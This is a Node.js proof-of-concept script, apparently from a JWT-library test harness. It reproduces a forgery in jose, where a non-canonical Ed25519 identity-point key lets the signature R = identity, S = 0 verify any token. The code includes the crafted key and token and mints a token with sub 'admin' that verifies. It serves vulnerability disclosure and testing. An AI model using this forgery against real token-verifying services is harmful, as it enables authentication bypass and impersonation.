// jose (Node.js) verifies EdDSA tokens with an Ed25519 public key that is a non-canonical
// encoding of the identity point, on which the signature R = identity, S = 0 verifies any
// message.
//
// RFC 8037 §3.1 and RFC 8032 §5.1.7: "Decode the public key A ... If any of the decodings fail
// (including S being out of range), the signature is invalid"; §5.1.3: decoding fails when the
// y coordinate is not below p. This key's x member encodes y = p + 1 (the identity, 1, plus p):
// not a valid encoding. jose imports the OKP JWK with WebCrypto (crypto.subtle.importKey, in
// Node.js over OpenSSL) and verifies with crypto.subtle.verify (lib/jws_verify.js): neither jose
// nor the platform refuses the key, and since A is the identity (a point of small order), the
// signature (R = identity, S = 0) satisfies the verification equation for every payload. An
// operator who loads such a key (a corrupted or attacker-supplied JWK Set entry) trusts tokens
// anyone can mint: this snippet verifies the vector's token, then the same signature on a
// payload of its own.
//
// Reproduces: eddsa/key-non-canonical-identity-y-p-plus-1 (forgery)
//
// Run (after scripts/setup/node.sh): node adapters/jose/repro.mjs
// jose 6.2.18 is configured exactly as adapters/jose/adapter.mjs configures it for this vector
// (createLocalJWKSet, jwtVerify with algorithms, issuer, audience, typ, clockTolerance,
// currentDate and requiredClaims); only jose and Node's standard library are used. No stricter
// setting exists: jwtVerify's options are about claims and algorithms, and jose has no option to
// validate an OKP key's point (importJWK and createLocalJWKSet take none).

import * as jose from 'jose';

const ID = 'eddsa/key-non-canonical-identity-y-p-plus-1';
const JWKS = JSON.stringify({
  keys: [{
    alg: 'EdDSA', crv: 'Ed25519', kid: 'ed25519', kty: 'OKP', use: 'sig',
    x: '7v_______________________________________38',
  }],
});
// Header {"alg":"EdDSA","kid":"ed25519","typ":"at+jwt"}; signature R = identity, S = 0.
const TOKEN =
  'eyJhbGciOiJFZERTQSIsImtpZCI6ImVkMjU1MTkiLCJ0eXAiOiJhdCtqd3QifQ.' +
  'eyJhdWQiOiJodHRwczovL2FwaS5leGFtcGxlIiwiY2xpZW50X2lkIjoiY2xpZW50LTEiLCJleHAiOjQxMDI0NDQ4MDAsImlhdCI6MTAwMDAwMDAwMCwiaXNzIjoiaHR0cHM6Ly9pc3N1ZXIuZXhhbXBsZSIsImp0aSI6Imp0aS0wMDAxIiwic3ViIjoiMDFIWlkySjNLNE01TjZQN1E4UjlTMFQxVjIifQ.' +
  'AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA';
const NOW = 1700000000;
const OPTIONS = {
  algorithms: ['EdDSA'], issuer: 'https://issuer.example', audience: ['https://api.example'], typ: 'at+jwt',
  clockTolerance: 0, currentDate: new Date(NOW * 1000),
  requiredClaims: ['exp', 'iat', 'iss', 'aud', 'sub', 'client_id', 'jti'],
};

const keySet = jose.createLocalJWKSet(JSON.parse(JWKS));
try {
  await jose.jwtVerify(new TextEncoder().encode(TOKEN), keySet, OPTIONS);
  // The same signature on claims of our own choosing.
  const [header, payload, signature] = TOKEN.split('.');
  const claims = { ...JSON.parse(Buffer.from(payload, 'base64url')), sub: 'admin' };
  const minted = `${header}.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.${signature}`;
  const { payload: accepted } = await jose.jwtVerify(minted, keySet, OPTIONS);
  console.log(`REPRODUCED ${ID}: jose accepted the token, and the same signature on sub ${JSON.stringify(accepted.sub)}: the key (y = p + 1, the identity) verifies R = identity, S = 0 for any payload`);
  process.exit(0);
} catch (error) {
  console.log(`NOT REPRODUCED ${ID}: jose rejected it: ${error.code ?? error.name}: ${error.message}`);
  process.exit(1);
}
